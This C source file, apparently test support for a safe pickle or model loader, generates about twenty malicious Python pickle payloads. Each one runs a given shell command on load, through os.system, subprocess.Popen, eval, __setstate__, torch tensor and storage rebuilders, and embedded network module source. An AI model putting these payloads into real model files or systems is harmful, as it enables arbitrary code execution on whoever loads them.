/* See execution_attempts.h. */
#include "support/execution_attempts.h"

#include "support/pickle_writer.h"

static void put_command(sg_text *pickle, const char *command)
{
    put_text(pickle, command);
}

static void by_global_and_reduce(sg_text *pickle, const char *command)
{
    put_global(pickle, "os", "system");
    put_command(pickle, command);
    PUT(pickle, "\x85R.");
}

static void by_stack_global(sg_text *pickle, const char *command)
{
    PUT(pickle, "\x80\x04\x8c\2os\x8c\6system\x93");
    put_command(pickle, command);
    PUT(pickle, "\x85R.");
}

static void by_instance(sg_text *pickle, const char *command)
{
    PUT(pickle, "(");
    put_command(pickle, command);
    PUT(pickle, "ios\nsystem\n.");
}

static void by_object(sg_text *pickle, const char *command)
{
    PUT(pickle, "(");
    put_global(pickle, "os", "system");
    put_command(pickle, command);
    PUT(pickle, "o.");
}

/* tuple(map(os.system, [command])), each class made by the operation `make`, which takes a class
 * and the tuple of its arguments. */
static void put_tuple_of_map(sg_text *pickle, const char *command, const char *make)
{
    PUT(pickle, "\x80\x04");
    put_global(pickle, "builtins", "tuple");
    put_global(pickle, "builtins", "map");
    put_global(pickle, "os", "system");
    PUT(pickle, "(");
    put_command(pickle, command);
    sg_text_append(pickle, "l\x86%s\x85%s.", make, make);
}

static void by_new_object(sg_text *pickle, const char *command)
{
    put_tuple_of_map(pickle, command, "\x81");
}

static void by_new_object_with_names(sg_text *pickle, const char *command)
{
    put_tuple_of_map(pickle, command, "}\x92");
}

static void by_popen(sg_text *pickle, const char *command)
{
    PUT(pickle, "(");
    put_global(pickle, "subprocess", "Popen");
    PUT(pickle, "(X\2\0\0\0shX\2\0\0\0-c");
    put_command(pickle, command);
    PUT(pickle, "lo.");
}

static void by_extension(sg_text *pickle, const char *command)
{
    PUT(pickle, "\x80\x02\x82\1");
    put_command(pickle, command);
    PUT(pickle, "\x85R\x83\1\0)R\x84\1\0\0\0)R.");
}

static void by_eval(sg_text *pickle, const char *command)
{
    sg_text source = {0};
    sg_text_append(&source, "__import__('os').system('%s')", command);
    put_global(pickle, "__builtin__", "eval");
    put_text(pickle, source.bytes);
    PUT(pickle, "\x85R.");
    sg_text_clear(&source);
}

/* getattr(os, "system")(command) */
static void by_attribute(sg_text *pickle, const char *command)
{
    put_global(pickle, "builtins", "getattr");
    put_global(pickle, "builtins", "__import__");
    PUT(pickle, "X\2\0\0\0os\x85RX\6\0\0\0system\x86R");
    put_command(pickle, command);
    PUT(pickle, "\x85R.");
}

/* An object whose attribute __setstate__ is os.system, then the command as its state. */
static void by_set_state(sg_text *pickle, const char *command)
{
    put_global(pickle, "argparse", "Namespace");
    PUT(pickle, ")\x81}X\x0c\0\0\0__setstate__");
    put_global(pickle, "os", "system");
    PUT(pickle, "sb");
    put_command(pickle, command);
    PUT(pickle, "b.");
}

/* A slot state, which sets attributes one by one, on a class. */
static void by_slots(sg_text *pickle, const char *command)
{
    put_global(pickle, "argparse", "Namespace");
    PUT(pickle, "N}X\x0c\0\0\0__setstate__");
    put_global(pickle, "os", "system");
    PUT(pickle, "s\x86"
                "b");
    put_global(pickle, "argparse", "Namespace");
    PUT(pickle, ")\x81");
    put_command(pickle, command);
    PUT(pickle, "b.");
}

static void by_dict_items(sg_text *pickle, const char *command)
{
    put_global(pickle, "collections", "defaultdict");
    put_global(pickle, "os", "system");
    PUT(pickle, "\x85R");
    put_command(pickle, command);
    put_global(pickle, "os", "system");
    put_command(pickle, command);
    PUT(pickle, "\x85Rs.");
}

static void by_persistent_id(sg_text *pickle, const char *command)
{
    put_global(pickle, "os", "system");
    put_command(pickle, command);
    PUT(pickle, "\x86Q0Pos.system\n.");
}

/* The constructor of the base class is called with the state. */
static void by_reconstructor(sg_text *pickle, const char *command)
{
    put_global(pickle, "copy_reg", "_reconstructor");
    put_global(pickle, "subprocess", "Popen");
    put_global(pickle, "subprocess", "Popen");
    PUT(pickle, "(X\2\0\0\0shX\2\0\0\0-c");
    put_command(pickle, command);
    PUT(pickle, "l\x87R.");
}

static void by_tensor_of_type(sg_text *pickle, const char *command)
{
    put_global(pickle, "torch._tensor", "_rebuild_from_type_v2");
    PUT(pickle, "(");
    put_global(pickle, "os", "system");
    put_global(pickle, "torch", "Tensor");
    put_command(pickle, command);
    PUT(pickle, "\x85}tR.");
}

/* A torch stream of bytes in the pickle, whose own pickle runs the command. */
static void by_nested_file(sg_text *pickle, const char *command)
{
    sg_text stream = {0};
    put_stream_start(&stream);
    by_global_and_reduce(&stream, command);
    PUT(&stream, "\x80\x02].");
    put_global(pickle, "torch.storage", "_load_from_bytes");
    put_bytes(pickle, stream.bytes, stream.length);
    PUT(pickle, "\x85R.");
    sg_text_clear(&stream);
}

/* The official networks carry their source, which the official reader runs. */
static void by_persistent_object(sg_text *pickle, const char *command)
{
    sg_text source = {0};
    sg_text_append(&source, "import os\nos.system('%s')\n", command);
    put_global(pickle, "torch_utils.persistence", "_reconstruct_persistent_obj");
    PUT(pickle, "}(X\4\0\0\0typeX\5\0\0\0classX\7\0\0\0versionK\6");
    PUT(pickle, "X\x0a\0\0\0module_src");
    put_text(pickle, source.bytes);
    PUT(pickle, "X\x0a\0\0\0class_nameX\1\0\0\0CX\5\0\0\0state}u\x85R.");
    sg_text_clear(&source);
}

/* TensorFlow-era networks carry theirs in their state. */
static void by_network(sg_text *pickle, const char *command)
{
    sg_text source = {0};
    sg_text_append(&source, "import os\nos.system('%s')\n", command);
    put_global(pickle, "dnnlib.tflib.network", "Network");
    PUT(pickle, ")\x81}X\x10\0\0\0build_module_src");
    put_text(pickle, source.bytes);
    PUT(pickle, "sb.");
    sg_text_clear(&source);
}

/* map(os.system, [command]) is lazy, and runs when a list is made of it. */
static void by_lazy_map(sg_text *pickle, const char *command)
{
    put_global(pickle, "__builtin__", "list");
    put_global(pickle, "__builtin__", "map");
    put_global(pickle, "os", "system");
    PUT(pickle, "(");
    put_command(pickle, command);
    PUT(pickle, "l\x86R\x85R.");
}

const execution_attempt execution_attempts[] = {
    {"GLOBAL and REDUCE", by_global_and_reduce},
    {"STACK_GLOBAL", by_stack_global},
    {"INST", by_instance},
    {"OBJ", by_object},
    {"NEWOBJ", by_new_object},
    {"OBJ of a class", by_popen},
    {"NEWOBJ_EX", by_new_object_with_names},
    {"EXT1, EXT2, EXT4", by_extension},
    {"eval", by_eval},
    {"getattr", by_attribute},
    {"BUILD with __setstate__", by_set_state},
    {"BUILD with slots", by_slots},
    {"SETITEM", by_dict_items},
    {"PERSID and BINPERSID", by_persistent_id},
    {"copyreg", by_reconstructor},
    {"a tensor of a type", by_tensor_of_type},
    {"_load_from_bytes", by_nested_file},
    {"a persistent object", by_persistent_object},
    {"a TensorFlow network", by_network},
    {"map", by_lazy_map},
    {NULL, NULL},
};
